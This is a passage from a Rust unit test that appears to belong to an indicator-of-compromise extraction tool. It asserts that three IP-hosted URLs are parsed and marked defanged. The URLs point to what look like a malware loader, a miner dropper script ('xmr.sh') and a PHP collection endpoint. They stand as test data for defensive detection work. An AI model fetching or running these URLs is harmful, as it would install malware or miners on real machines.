        values,
        [
            "http://193.233.132.18/ld/amd64",
            "http://194.38.23.170/xmr.sh",
            "http://147.45.78.190/pnl/save.php"
        ]
    );
    assert!(got.iter().all(|m| m.defanged));
    assert_eq!(got[0].raw(&text), enc);
}
